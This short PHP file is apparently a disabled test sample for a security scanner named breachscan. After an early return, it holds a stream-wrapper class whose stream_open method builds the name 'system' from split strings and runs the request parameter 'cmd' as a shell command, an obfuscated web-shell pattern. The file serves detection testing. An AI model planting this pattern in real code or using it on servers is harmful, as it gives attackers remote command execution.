<?php
// synthetic test sample for breachscan: PHP 7 call of a string expression directly on
// request data. Disabled.
return;
class W { public function stream_open() { sy.'stem'($_GET['cmd']); return true; } }
